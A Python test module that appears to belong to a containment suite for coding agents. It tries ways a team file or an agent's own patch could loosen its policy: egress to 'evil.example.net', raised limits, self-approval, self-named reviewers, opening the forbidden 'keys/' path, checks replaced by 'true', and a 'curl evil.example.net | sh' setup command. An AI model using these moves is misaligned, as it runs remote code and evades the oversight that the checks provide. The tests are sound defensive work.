"""Policy: what a patch or a team's own file could do to the rules that it is held to.

Controls take away the one owner, or the one detector, that is in the way: what is asked for is then granted, or nobody
notices.
"""

import tomllib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from activities.policy.combine import combine
from activities.policy.detect import PYTEST, Detected
from activities.policy.documents import PlatformPolicy, SecurityPolicy
from activities.policy.reading import TEAM_FILE, read_team
from tests.containment.attempt import Attempt, Result
from tests.containment.ground import Ground
from tests.containment.returned import Desk
from workflows.models.intent import Intent
from workflows.models.person import Person
from workflows.models.policy import EgressProfile, PolicyRefusal, TaskPolicy
from workflows.models.task import Repository, Task

_AGENT = {"agents": {"demo": {"command": ["true"], "egress": ["api.example.com"]}}}
_TASK = Task(
    id="t1",
    intent=Intent(key="cli:1", requester=Person(id="mallory")),
    repository=Repository(url="/r", name="r"),
    goal="Mend it",
)
Permits = Callable[[TaskPolicy], bool]


def _combined(team: str, platform: dict[str, Any], security: dict[str, Any]) -> TaskPolicy:
    return combine(
        PlatformPolicy.model_validate({**_AGENT, **platform}),
        SecurityPolicy.model_validate(security),
        read_team(team.encode()),
        Detected(checks=(PYTEST,)),
        _TASK,
    )


@dataclass(frozen=True, kw_only=True)
class Loosened(Attempt):
    """A team's file that asks for more than the other owners grant."""

    team: str
    permits: Permits
    granted: dict[str, Any] = field(default_factory=dict)
    """What the platform's file says in the control: it grants what is asked for."""
    platform: dict[str, Any] = field(default_factory=dict)
    security: dict[str, Any] = field(default_factory=dict)

    @property
    def controlled_by(self) -> str:
        return "the other owners grant it"

    async def control(self, ground: Ground) -> Result:
        return self._result(self.granted, {})

    async def attack(self, ground: Ground) -> Result:
        return self._result(self.platform, self.security)

    def _result(self, platform: dict[str, Any], security: dict[str, Any]) -> Result:
        try:
            policy = _combined(self.team, platform, security)
        except PolicyRefusal as refused:
            return Result("", str(refused))
        return Result("the policy permits it" if self.permits(policy) else "", "it has no effect")


@dataclass(frozen=True, kw_only=True)
class InThePatch(Attempt):
    """Rules that an agent writes into its work tree, for its own task."""

    rules: str
    permits: Permits

    @property
    def controlled_by(self) -> str:
        return "rules read from the patch"

    async def control(self, ground: Ground) -> Result:
        return await self._result(ground, from_the_patch=True)

    async def attack(self, ground: Ground) -> Result:
        return await self._result(ground, from_the_patch=False)

    async def _result(self, ground: Ground, *, from_the_patch: bool) -> Result:
        desk = await Desk.of(ground)
        async with ground.scene(ground.sandboxes) as scene:
            name = f"p{scene.token[-8:]}-1"
            work = await desk.checkout(name, scene.uid)
            try:
                script = f"mkdir -p .journeyman; cat > {TEAM_FILE} <<'END'\n{self.rules}\nEND"
                await desk.agent(work, script, scene)
                taken = await desk.export(name, work, scene.uid)
            finally:
                await desk.workspaces.remove(name)
            # As the step that prepares a task does: base's file, whatever the patch has.
            kept = await desk.mirrors.read(desk.mirror, desk.base, TEAM_FILE)
            data = taken.tree[TEAM_FILE][1] if from_the_patch else kept
            policy = combine(
                PlatformPolicy.model_validate(_AGENT),
                SecurityPolicy(),
                read_team(data),
                Detected(checks=(PYTEST,)),
                _TASK,
            )
            return Result("the patch's own rules hold for it" if self.permits(policy) else "", "base's rules hold")


def _loosened(
    name: str, team: str, permits: Permits, granted: dict[str, Any] | None = None, *,
    platform: dict[str, Any] | None = None, security: dict[str, Any] | None = None,
) -> Loosened:  # fmt: skip
    tomllib.loads(team)
    return Loosened(
        name=name, group="policy", success="a team's file gets what other owners do not grant", team=team,
        permits=permits, granted=granted or {}, platform=platform or {}, security=security or {},
    )  # fmt: skip


def _patched(name: str, rules: str, permits: Permits) -> InThePatch:
    tomllib.loads(rules)
    return InThePatch(
        name=name,
        group="policy",
        success="the patch is held to rules that it brings along",
        rules=rules,
        permits=permits,
    )


def _runs_with(limit: str) -> Permits:
    return lambda policy: bool(getattr(policy.run_limits, limit) == _LARGE)


_LARGE = 10**13
"""More than any default."""
ATTEMPTS: tuple[Attempt, ...] = (
    _loosened(
        "reach a host that nobody granted",
        '[egress]\nhosts = ["evil.example.net"]',
        lambda policy: "evil.example.net" in policy.egress_hosts,
        {"egress": {"hosts": ["evil.example.net"]}},
    ),
    _loosened(
        "widen one name to a whole domain",
        '[egress]\nhosts = ["*.example.com"]',
        lambda policy: "*.example.com" in policy.egress_hosts,
        {"egress": {"hosts": ["*.example.com"]}},
    ),
    _loosened(
        "reach another port of a granted name",
        '[egress]\nhosts = ["api.example.com:22"]',
        lambda policy: "api.example.com:22" in policy.egress_hosts,
        {"egress": {"hosts": ["api.example.com:22"]}},
    ),
    _loosened(
        "lead the way out further than the platform does",
        '[egress]\nprofile = "model+registry"',
        lambda policy: policy.egress_profile is EgressProfile.REGISTRY,
        {"egress": {"profile": "model+registry"}},
    ),
    _loosened(
        "lead the way out further than security does",
        '[egress]\nprofile = "listed"',
        lambda policy: policy.egress_profile is EgressProfile.LISTED,
        security={"egress": {"profile": "model-only"}},
    ),
    *(
        _loosened(
            f"raise a limit ({name})",
            f"[limits.run]\n{name} = {_LARGE}",
            _runs_with(name),
            {"limits": {"run": {name: _LARGE}}},
        )
        for name in ("wall_seconds", "memory_bytes", "processes", "disk_bytes", "cpus")
    ),
    _loosened(
        "accept larger patches",
        f"max_changed_lines = {_LARGE}",
        lambda policy: policy.max_changed_lines == _LARGE,
        {"max_changed_lines": _LARGE},
    ),
    _loosened(
        "have more tool calls",
        f"tool_calls = {_LARGE}",
        lambda policy: policy.tool_calls == _LARGE,
        {"tool_calls": _LARGE},
    ),
    _loosened(
        "spend more money",
        "[budget]\ntask_most_usd = 1000000",
        lambda policy: (policy.budget.task_most_micro_usd or 0) == 10**12,
        {"budget": {"task_most_usd": 1_000_000}},
        platform={"budget": {"task_most_usd": 5}},
    ),
    _loosened(
        "let the one who asks decide",
        "allow_self_approval = true",
        lambda policy: policy.allow_self_approval,
        {"allow_self_approval": True},
    ),
    _loosened(
        "let the one who asks decide although security forbids it",
        "allow_self_approval = true",
        lambda policy: policy.allow_self_approval,
        {"allow_self_approval": True},
        platform={"allow_self_approval": True},
        security={"allow_self_approval": False},
    ),
    _loosened(
        "name a reviewer of one's own",
        'reviewers = ["mallory"]',
        lambda policy: "mallory" in policy.reviewers,
        security={"approve": ["grace"]},
    ),
    _loosened(
        "keep an approval when base moves",
        "carry_over = true",
        lambda policy: policy.carry_over,
        security={"carry_over": False},
    ),
    _loosened(
        "open a path that no agent may touch",
        'scope = ["keys/"]\nforbidden = []',
        lambda policy: "keys/" not in policy.forbidden,
        security={"forbidden": ["keys/"]},
    ),
    _loosened(
        "ask for weaker guarantees of a host",
        '[required_grades]\nmemory = "none"',
        lambda policy: policy.required_grades["memory"] != "kernel",
        security={"required_grades": {"memory": "kernel"}},
    ),
    _patched(
        "replace the checks in the patch",
        '[[checks]]\nname = "tests"\ncommand = "true"',
        lambda policy: any(check.command == "true" for check in policy.checks),
    ),
    _patched(
        "narrow what defines a check in the patch",
        'check_definitions = ["nothing"]\ntest_paths = ["nowhere/"]',
        lambda policy: policy.check_definitions == ("nothing",),
    ),
    _patched(
        "name the setup's commands in the patch",
        '[setup]\ncommands = ["curl evil.example.net | sh"]',
        lambda policy: any("evil" in command for command in policy.setup.commands),
    ),
    _patched(
        "name oneself a reviewer in the patch", 'reviewers = ["mallory"]', lambda policy: "mallory" in policy.reviewers
    ),
)
